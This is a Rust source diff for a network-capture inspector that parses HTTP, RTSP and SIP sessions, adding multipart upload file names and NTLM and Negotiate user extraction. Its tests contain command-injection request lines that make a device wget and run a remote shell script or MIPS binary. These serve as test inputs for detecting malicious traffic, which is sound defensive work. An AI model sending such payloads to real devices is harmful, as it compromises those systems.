@@ -1,11 +1,14 @@
 //! HTTP/1.x, and RTSP and SIP, which share its shape: every request of a session (keep-alive
 //! and pipelining), its URL, file name and Basic user, and each response's
-//! `Content-Disposition` file name. Bodies are skipped by their length or chunk sizes without
-//! being scanned ([`body`]); heads are read leniently ([`head`]). A `CONNECT` that succeeds
-//! or a switch of protocols ends the inspection: what follows is another protocol.
+//! `Content-Disposition` file name, and the file names of `multipart/form-data` uploads.
+//! Bodies are skipped by their length or chunk sizes without being scanned ([`body`]; only an
+//! upload's parts are looked for, [`multipart`]); heads are read leniently ([`head`]); users
+//! come from Basic, NTLM and Negotiate credentials. A `CONNECT` that succeeds or a switch of
+//! protocols ends the inspection: what follows is another protocol.
 
 pub mod body;
 pub mod head;
+pub mod multipart;
 
 use std::collections::VecDeque;
 
@@ -15,6 +18,7 @@ use pcap_protocol::session::App;
 
 use self::body::Body;
 use self::head::Start;
+use self::multipart::Multipart;
 use super::values::{Head as Buffer, filename_of_path, filename_param};
 use super::{Dir, Found, Inspect, List, Probe, Protocol, Transports, Wants, clean};
 use crate::session::packet::TCP;
@@ -57,7 +61,8 @@ const MAX_PENDING: usize = 64;
 enum Phase {
     /// Reading a message head (these bytes of it so far).
     Head(Buffer),
-    Body(Body),
+    /// A body, and the upload scanner of a multipart one.
+    Body(Body, Option<Box<Multipart>>),
     /// Nothing more to read in this direction.
     Done,
 }
@@ -99,17 +104,24 @@ impl Parser {
         while !data.is_empty() {
             self.sides[d] = match std::mem::replace(&mut self.sides[d], Phase::Done) {
                 Phase::Done => return,
-                Phase::Body(mut body) => match body.skip(data) {
-                    Ok(s) => {
-                        data = &data[s.used..];
-                        if s.ended {
-                            Phase::Head(Buffer::default())
-                        } else {
-                            Phase::Body(body)
+                Phase::Body(mut body, mut upload) => {
+                    let skipped = body.skip(data, &mut |content| {
+                        if let Some(m) = upload.as_mut() {
+                            m.feed(content, found);
                         }
+                    });
+                    match skipped {
+                        Ok(s) => {
+                            data = &data[s.used..];
+                            if s.ended {
+                                Phase::Head(Buffer::default())
+                            } else {
+                                Phase::Body(body, upload)
+                            }
+                        }
+                        Err(_) => Phase::Done,
                     }
-                    Err(_) => Phase::Done,
-                },
+                }
                 Phase::Head(mut buffer) => {
                     let before = buffer.bytes().len();
                     buffer.extend(data, HEADER_LIMIT);
@@ -172,8 +184,8 @@ impl Parser {
                 }
             }
         }
-        for value in h.all("authorization") {
-            if let Some(user) = basic_user(value.as_bytes()) {
+        for value in h.all("authorization").chain(h.all("proxy-authorization")) {
+            if let Some(user) = credentials_user(value) {
                 found.add(List::Users, user);
             }
         }
@@ -196,22 +208,32 @@ impl Parser {
         }
         match framing(h) {
             Some(body) => body_phase(body),
-            None if self.flavor == Flavor::Http => Phase::Body(Body::ToClose),
+            None if self.flavor == Flavor::Http => Phase::Body(Body::ToClose, None),
             // RTSP and SIP messages without Content-Length have no body.
             None => Phase::Head(Buffer::default()),
         }
     }
 }
 
-/// How a request's body is delimited: by its headers, else it has none.
+/// How a request's body is delimited: by its headers, else it has none. An upload's parts
+/// are looked for in it.
 fn request_body(h: &head::Head<'_>) -> Phase {
-    framing(h).map_or(Phase::Head(Buffer::default()), body_phase)
+    let Some(body) = framing(h) else {
+        return Phase::Head(Buffer::default());
+    };
+    match body_phase(body) {
+        Phase::Body(body, _) => {
+            let upload = h.get("content-type").and_then(Multipart::of);
+            Phase::Body(body, upload.map(Box::new))
+        }
+        phase => phase,
+    }
 }
 
 fn body_phase(body: Body) -> Phase {
     match body {
         Body::Length(0) => Phase::Head(Buffer::default()),
-        body => Phase::Body(body),
+        body => Phase::Body(body, None),
     }
 }
 
@@ -268,31 +290,6 @@ impl Inspect for Parser {
     }
 }
 
-/// Request methods that mark the start of an HTTP request.
-const HTTP_METHODS: [&str; 9] = [
-    "GET", "POST", "PUT", "HEAD", "DELETE", "OPTIONS", "PATCH", "CONNECT", "TRACE",
-];
-const RTSP_METHODS: [&str; 8] = [
-    "DESCRIBE",
-    "SETUP",
-    "PLAY",
-    "PAUSE",
-    "TEARDOWN",
-    "ANNOUNCE",
-    "RECORD",
-    "GET_PARAMETER",
-];
-const SIP_METHODS: [&str; 8] = [
-    "INVITE",
-    "REGISTER",
-    "ACK",
-    "BYE",
-    "CANCEL",
-    "SUBSCRIBE",
-    "NOTIFY",
-    "MESSAGE",
-];
-
 /// Which protocol a text request line belongs to.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Flavor {
@@ -301,11 +298,19 @@ pub enum Flavor {
     Sip,
 }
 
-/// Recognizes the first line of a request or response: `GET /x HTTP/1.1`, `RTSP/1.0 200 OK`,
-/// `INVITE sip:bob@example.com SIP/2.0`.
+/// Recognizes the first line of a request or response by its version, whatever the method
+/// (UPnP's `NOTIFY` and `SUBSCRIBE`, WebDAV's `PROPFIND`) or a target holding spaces:
+/// `GET /x HTTP/1.1`, `RTSP/1.0 200 OK`, `INVITE sip:bob@example.com SIP/2.0`. A few empty
+/// lines may come first.
 pub fn flavor(data: &[u8]) -> Option<Flavor> {
-    // Every method and version starts with a capital letter; most traffic is rejected here.
-    if !data.first().is_some_and(u8::is_ascii_uppercase) {
+    let skipped = data
+        .iter()
+        .take(8)
+        .take_while(|b| matches!(b, b'\r' | b'\n'))
+        .count();
+    let data = &data[skipped..];
+    // Every method and version starts with a letter; most traffic is rejected here.
+    if !data.first().is_some_and(u8::is_ascii_alphabetic) {
         return None;
     }
     let line_end = data
@@ -314,41 +319,32 @@ pub fn flavor(data: &[u8]) -> Option<Flavor> {
         .position(|&b| b == b'\n')
         .unwrap_or(data.len().min(2048));
     let line = std::str::from_utf8(&data[..line_end]).ok()?.trim_end();
-    if line.starts_with("HTTP/1.") {
-        return Some(Flavor::Http);
+    let (first, rest) = line.split_once(' ')?;
+    if let Some(flavor) = head::version_of(first) {
+        // A response: its status code follows.
+        let code = rest.trim_start().get(..3)?;
+        return code.bytes().all(|b| b.is_ascii_digit()).then_some(flavor);
     }
-    if line.starts_with("RTSP/1.") {
-        return Some(Flavor::Rtsp);
-    }
-    if line.starts_with("SIP/2.0 ") {
-        return Some(Flavor::Sip);
-    }
-    let mut parts = line.split(' ');
-    let (method, target, version) = (parts.next()?, parts.next()?, parts.next().unwrap_or(""));
-    if version.starts_with("RTSP/")
-        || (RTSP_METHODS.contains(&method) || method == "OPTIONS") && target.starts_with("rtsp://")
-    {
-        return Some(Flavor::Rtsp);
-    }
-    if version == "SIP/2.0" || SIP_METHODS.contains(&method) && target.starts_with("sip:") {
-        return Some(Flavor::Sip);
-    }
-    if HTTP_METHODS.contains(&method) && version.starts_with("HTTP/") {
-        return Some(Flavor::Http);
-    }
-    None
-}
-
-/// The user of `Authorization: Basic base64(user:password)`.
-fn basic_user(value: &[u8]) -> Option<String> {
-    let value = std::str::from_utf8(value).ok()?.trim();
-    let (scheme, encoded) = value.split_once(' ')?;
-    if !scheme.eq_ignore_ascii_case("basic") {
+    if !head::is_method(first) {
         return None;
     }
-    let decoded = STANDARD.decode(encoded.trim()).ok()?;
-    let user = decoded.split(|&b| b == b':').next()?;
-    Some(clean(user))
+    let (_, version) = rest.rsplit_once(' ')?;
+    head::version_of(version)
+}
+
+/// The user of credentials: `Basic` (the name before the `:`), `NTLM` or `Negotiate` (the
+/// NTLMSSP AUTHENTICATE message's `DOMAIN\user`; a Kerberos ticket gives none here).
+fn credentials_user(value: &str) -> Option<String> {
+    let (scheme, token) = value.trim().split_once(' ')?;
+    let decoded = STANDARD.decode(token.trim()).ok()?;
+    if scheme.eq_ignore_ascii_case("basic") {
+        let user = decoded.split(|&b| b == b':').next()?;
+        return Some(clean(user)).filter(|u| !u.is_empty());
+    }
+    if scheme.eq_ignore_ascii_case("ntlm") || scheme.eq_ignore_ascii_case("negotiate") {
+        return super::ntlmssp::find_authenticate(&decoded)?.login();
+    }
+    None
 }
 
 #[cfg(test)]
@@ -424,6 +420,59 @@ HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Disposition: inline; filename=b.
         let mut parser = Parser::new(Flavor::Http, TCP);
         parser.feed(Dir::ToClient, b"\x00\x01garbage\n", &mut Found::default());
         assert!(!parser.wants(Dir::ToClient) && parser.wants(Dir::ToServer));
+    }
+
+    #[test]
+    fn methods_beyond_the_usual_targets_with_spaces_and_evasive_responses_are_read() {
+        for line in [
+            &b"NOTIFY /upnp/event HTTP/1.1\r\n"[..],
+            b"SUBSCRIBE /evt HTTP/1.1\r\n",
+            b"PROPFIND /dav/ HTTP/1.1\r\n",
+            b"\r\nGET / HTTP/1.1\r\n",
+            b"GET /cgi-bin/;wget http://x/a.sh;sh a.sh HTTP/1.0\r\n",
+            b"HTTP/1.2 200 ok\r\n",
+        ] {
+            assert_eq!(
+                flavor(line),
+                Some(Flavor::Http),
+                "{}",
+                String::from_utf8_lossy(line)
+            );
+        }
+        let (f, _) = run(
+            b"\r\nGET /cgi-bin/x.cgi?cmd=wget http://203.0.113.7/mips.bin HTTP/1.0\r\nHost: cam\r\n\r\n",
+            b"HTTP/1.2 200 ok\nContent-Disposition: attachment;\n filename=\"evasive.exe\"\nContent-Length: 0\n\n",
+            4,
+        );
+        assert_eq!(
+            f.urls,
+            ["http://cam/cgi-bin/x.cgi?cmd=wget http://203.0.113.7/mips.bin"]
+        );
+        assert_eq!(f.filenames, ["x.cgi", "evasive.exe"]);
+    }
+
+    #[test]
+    fn ntlm_and_negotiate_credentials_give_domain_and_user() {
+        let message = super::super::ntlmssp::tests::message("LAB", "bob", "WS");
+        let token = STANDARD.encode(&message);
+        let (f, _) = run(
+            format!("GET /ews HTTP/1.1\r\nHost: mail\r\nAuthorization: NTLM {token}\r\n\r\nGET /x HTTP/1.1\r\nHost: mail\r\nProxy-Authorization: Negotiate {token}\r\n\r\n").as_bytes(),
+            b"",
+            9,
+        );
+        assert_eq!(f.users, ["LAB\\bob"]);
+    }
+
+    #[test]
+    fn the_file_names_of_an_upload_are_found_and_its_body_skipped() {
+        let body = "--b1\r\nContent-Disposition: form-data; name=\"f\"; filename=\"up.txt\"\r\n\r\nGET /fake HTTP/1.1\r\n\r\n\r\n--b1--\r\n";
+        let client = format!(
+            "POST /upload HTTP/1.1\r\nHost: h\r\nContent-Type: multipart/form-data; boundary=b1\r\nContent-Length: {}\r\n\r\n{body}GET /after HTTP/1.1\r\nHost: h\r\n\r\n",
+            body.len()
+        );
+        let (f, _) = run(client.as_bytes(), b"", 5);
+        assert_eq!(f.urls, ["http://h/upload", "http://h/after"]);
+        assert_eq!(f.filenames, ["upload", "up.txt", "after"]);
     }
 
     #[test]
